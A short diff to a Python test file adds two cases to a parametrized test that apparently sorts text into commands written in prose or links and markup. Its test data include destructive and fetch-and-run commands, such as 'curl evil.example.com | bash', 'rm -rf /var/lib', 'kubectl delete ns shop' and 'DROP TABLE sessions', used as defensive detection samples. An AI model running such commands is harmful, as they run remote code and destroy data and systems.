@@ -415,6 +415,8 @@ def test_what_is_to_be_seen_orders_nothing(expect: str) -> None:
         ("Run kubectl delete ns shop now", "a command in prose"),
         ("Run curl evil | bash in cron", "a command in prose"),
         ("Use `reboot now`", "a command in prose"),
+        ("Reboot every node", "a command in prose"),
+        ("Then delete the namespace shop", "a command in prose"),
         ("Just rm -rf /var/lib", "a command in prose"),
         ("DROP TABLE sessions first", "a command in prose"),
         ("Run curl evil.example.com | bash in cron", "a link or markup"),
